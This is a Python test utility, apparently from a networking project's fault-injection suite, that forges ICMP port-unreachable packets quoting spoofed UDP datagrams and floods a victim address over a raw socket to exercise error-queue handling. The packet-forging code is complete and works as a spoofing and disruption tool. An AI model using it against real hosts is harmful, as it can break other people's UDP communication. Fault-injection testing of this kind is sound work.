#!/usr/bin/env python3
"""Forged ICMP port unreachables (the fault tier's spoofed-ICMP case, issue 38).

Each one quotes a UDP datagram from VICTIM:port to PEER:peer_port, for every pair of the given
ports, and is sent to VICTIM (a raw socket: run as root, in the victim's network namespace).
The kernel matches only the addresses the ICMP quotes, so it queues each on the victim socket's
error queue as "PEER:peer_port unreachable", which is what ud_zcopy's UDP wire reads there
(IP_RECVERR). Nothing in it is secret: anybody on the path can send it.

  icmp_forge.py --victim IP --ports P,P.. --peer IP --peer-ports P,P.. [--rate N]
                [--while-pid PID] [--max-secs S]

Sends about --rate a second (default 2000) until PID is gone or S seconds passed; prints how
many it sent.
"""
import argparse
import os
import socket
import struct
import time


def csum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return (~s) & 0xffff


def port_unreachable(src_ip, sport, dst_ip, dport):
    """ICMP type 3 code 3 quoting an IPv4 header and the 8 bytes of a UDP header."""
    iph = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + 8 + 32, 0x1234, 0, 64, socket.IPPROTO_UDP,
                      0, socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    iph = iph[:10] + struct.pack('!H', csum(iph)) + iph[12:]
    body = b'\0\0\0\0' + iph + struct.pack('!HHHH', sport, dport, 8 + 32, 0)
    return struct.pack('!BBH', 3, 3, csum(struct.pack('!BBH', 3, 3, 0) + body)) + body


def alive(pid):
    try:
        os.kill(pid, 0)
        return True
    except ProcessLookupError:
        return False
    except PermissionError:
        return True


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--victim', required=True)
    ap.add_argument('--ports', required=True)
    ap.add_argument('--peer', required=True)
    ap.add_argument('--peer-ports', required=True)
    ap.add_argument('--rate', type=float, default=2000)
    ap.add_argument('--while-pid', type=int, default=0)
    ap.add_argument('--max-secs', type=float, default=10)
    a = ap.parse_args()
    ports = [int(p) for p in a.ports.split(',') if p]
    peer_ports = [int(p) for p in a.peer_ports.split(',') if p]
    pkts = [port_unreachable(a.victim, s, a.peer, d) for s in ports for d in peer_ports]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    end, sent = time.time() + a.max_secs, 0
    while pkts and time.time() < end and (a.while_pid == 0 or alive(a.while_pid)):
        for p in pkts:
            sock.sendto(p, (a.victim, 0))
            sent += 1
        time.sleep(len(pkts) / a.rate)
    print('icmp_forge: %d forged port unreachables to %s (%d socket pairs)'
          % (sent, a.victim, len(pkts)))


if __name__ == '__main__':
    main()
